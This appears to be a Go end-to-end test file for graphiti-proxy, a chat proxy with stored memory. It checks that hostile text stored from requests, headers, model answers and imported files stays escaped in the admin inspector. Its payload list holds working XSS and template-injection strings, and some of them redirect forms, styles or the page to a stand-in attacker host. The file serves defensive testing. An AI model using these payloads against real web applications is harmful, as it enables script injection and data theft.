//go:build e2e

package e2e

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"path/filepath"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/graphiti-proxy/graphiti-proxy/graphiti/graphititest"
	"github.com/graphiti-proxy/graphiti-proxy/internal/helptest"
	"github.com/graphiti-proxy/graphiti-proxy/proxy/proxytest"
)

// payloads are an attacker's texts. Each sets __xss if it runs, and marks the elements that
// it creates with the attribute data-xss.
var payloads = []string{
	`<script>window.__xss=1</script>`,
	`<img src=x onerror="window.__xss=1" data-xss>`,
	`<svg onload=window.__xss=1 data-xss><animate onbegin=window.__xss=1 attributeName=x></svg>`,
	`"><b data-xss onmouseover=window.__xss=1 style="position:fixed;inset:0">x</b>`,
	`' autofocus onfocus=window.__xss=1 data-xss='`,
	"` onclick=window.__xss=1 data-xss `",
	`javascript:window.__xss=1`,
	`</title></textarea></script></style></pre><img src=x onerror=window.__xss=1 data-xss>`,
	`{{.}} {{define "main"}}${window.__xss=1}{{end}} <%= 7*7 %> #{7*7}`,
	`<!--><iframe srcdoc="<script>parent.__xss=1</script>" data-xss></iframe>-->`,
	`<a href="javascript:window.__xss=1" data-xss>click</a>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.__xss=1 data-xss&gt;">`,
	`<base href=//attacker.invalid data-xss><link rel=stylesheet href=//attacker.invalid data-xss><meta http-equiv=refresh content="0;url=//attacker.invalid" data-xss>`,
	`<form action=//attacker.invalid data-xss><input name=csrf><button autofocus>`,
	`&lt;script&gt;window.__xss=1&lt;/script&gt; \u003cscript\u003ewindow.__xss=1\u003c/script\u003e`,
	"\u202egnp.exe\u202c \u2066isolate\u2069 \u200fright\u200e \u061c",
	"a null\x00 byte, \x1b[31mred\x1b[0m, and a bell\a",
	"not UTF-8: \xff\xfe",
}

// hostile returns a text with all payloads after a mark. The mark identifies pages that
// show the text.
func hostile(mark string) string { return "MARK-" + mark + " " + strings.Join(payloads, " ") }

// hostileHeader returns a text with those payloads after a mark that a header's value can
// hold.
func hostileHeader(mark string) string {
	return "MARK-" + mark + ` <script>window.__xss=1</script><img src=x onerror="window.__xss=1" data-xss>"'><svg onload=window.__xss=1 data-xss> javascript:window.__xss=1 {{.}}`
}

// attack sends one hostile request through the proxy and ignores the status of the answer.
func (w *world) attack(t *testing.T, path string, body any, headers map[string]string) {
	t.Helper()
	b, err := json.Marshal(body)
	must(t, err)
	req, err := http.NewRequest(http.MethodPost, w.url+path, bytes.NewReader(b))
	must(t, err)
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Authorization", "Bearer sk-test")
	for name, value := range headers {
		req.Header.Set(name, value)
	}
	resp, err := http.DefaultClient.Do(req)
	must(t, err)
	defer resp.Body.Close()
	// A turn is captured only if the client reads the whole answer.
	must(t, helptest.ErrorOf(io.Copy(io.Discard, resp.Body)))
}

// asked returns a request with one message.
func asked(model, text string) map[string]any {
	return map[string]any{"model": model, "messages": []any{user(text)}}
}

// infest puts hostile text into every field that clients and the model can set.
func (w *world) infest(t *testing.T) {
	t.Helper()
	const chat = "/v1/chat/completions"
	w.model.SetAnswer(func(proxytest.Input) proxytest.Reply { return proxytest.Reply{Text: hostile("answer")} })
	w.attack(t, chat, asked("m", hostile("text")), nil)
	w.attack(t, chat, asked(hostile("model"), "The walrus sleeps on the blue raft."), nil)
	w.attack(t, chat, asked("m", "The heron stands on the red raft."), map[string]string{"User-Agent": hostileHeader("agent")})
	w.attack(t, chat, asked("m", "The otter swims below the green raft."), map[string]string{
		"X-Graphiti-Workspace": hostileHeader("project"), "X-Graphiti-Session": hostileHeader("session"), "X-Graphiti-Agent": hostileHeader("worker")})
	w.attack(t, chat, asked("m", "The crab hides in the old raft."), map[string]string{"X-Graphiti-Workspace": `C:\<script>window.__xss=1</script>\..\..\x`})
	w.attack(t, chat, asked("m", "Remember that the raft is called "+payloads[1]+" MARK-card."), nil)
	w.attack(t, chat, asked("m", "MARK-long "+strings.Repeat("W", 1<<20)), nil)
	w.attack(t, "/v1/MARK-path/%3Cscript%3Ewindow.__xss=1%3C/script%3E", map[string]any{}, nil)
	w.model.SetFaults(proxytest.Faults{Status: 400})
	w.attack(t, chat, asked("m", "A refused request."), map[string]string{"User-Agent": hostileHeader("refused")})
	w.model.SetFaults(proxytest.Faults{})
	w.attack(t, chat, asked("m", "Which raft does the walrus, the heron, the otter sleep on?"), nil)
	w.until(t, "the turns", func(q queue) bool { return q.Delivered >= 7 && q.Pending == 0 })
}

// hostileFile returns the path of a file to import, with hostile text in each field.
func hostileFile(t *testing.T) string {
	t.Helper()
	file := filepath.Join(t.TempDir(), "hostile.jsonl")
	var b bytes.Buffer
	for i, p := range payloads {
		name := strings.Map(func(r rune) rune { // the import refuses names with such characters
			if unicode.IsControl(r) || r == utf8.RuneError {
				return -1
			}
			return r
		}, p)
		for _, line := range []map[string]any{
			{"role": "user", "content": "MARK-imported " + p, "name": "MARK-speaker " + p, "session": "s " + name, "id": p},
			{"role": "assistant", "content": p, "session": "s " + name},
			{"role": "user", "scope": "workspace", "workspace": "MARK-workspace " + name, "content": "The gull has nest number " + fmt.Sprint(i)},
			{"role": "user", "scope": "workspace", "workspace": "MARK-workspace " + name, "content": "The Gull of " + p + " meets the Puffin."},
		} {
			must(t, json.NewEncoder(&b).Encode(line))
		}
	}
	write(t, b.String(), file)
	return file
}

// TestScriptsAreEscaped checks that no stored text runs as a script in the inspector.
func TestScriptsAreEscaped(t *testing.T) {
	t.Parallel()
	t.Run("embedded", func(t *testing.T) {
		w := serve(t, "GRAPHITI_PROXY_INGEST_SCOPES=workspace,user,agent")
		w.stop(t)
		w.command(t, "memory", "import", hostileFile(t))
		w.start(t, w.env...)
		w.infest(t)
		inBrowser(t, "stored.mjs", map[string]any{"base": w.admin, "payloads": payloads, "limit": 50,
			"from":     []string{"/", "/live", "/memory", "/conversations", "/memory/show", "/search?kind=fact", "/delivery", "/search", "/memory/import", "/memory/forget"},
			"searches": []string{"Which raft does the walrus sleep on?", "What does MARK-imported say of the Gull and the Puffin?", payloads[1], payloads[7]},
			"marks":    []string{"MARK-text", "MARK-answer", "MARK-project", "MARK-card", "MARK-imported", "MARK-workspace", "MARK-path", "MARK-long"}})
	})
	t.Run("Graphiti", func(t *testing.T) {
		g, err := graphititest.Start(graphititest.Options{})
		must(t, err)
		defer g.Close()
		w := serve(t, "GRAPHITI_PROXY_MEMORY_BACKEND=graphiti", "GRAPHITI_PROXY_MEMORY_ENDPOINT="+g.URL(), "GRAPHITI_PROXY_MEMORY_CONSENT=true")
		w.infest(t)
		inBrowser(t, "stored.mjs", map[string]any{"base": w.admin, "limit": 30,
			"from":     []string{"/", "/live", "/memory", "/search?kind=fact", "/delivery?text=1", "/memory/show"},
			"searches": []string{"Which raft does the walrus sleep on?", payloads[1]},
			"marks":    []string{"MARK-text", "MARK-project"}})
	})
}
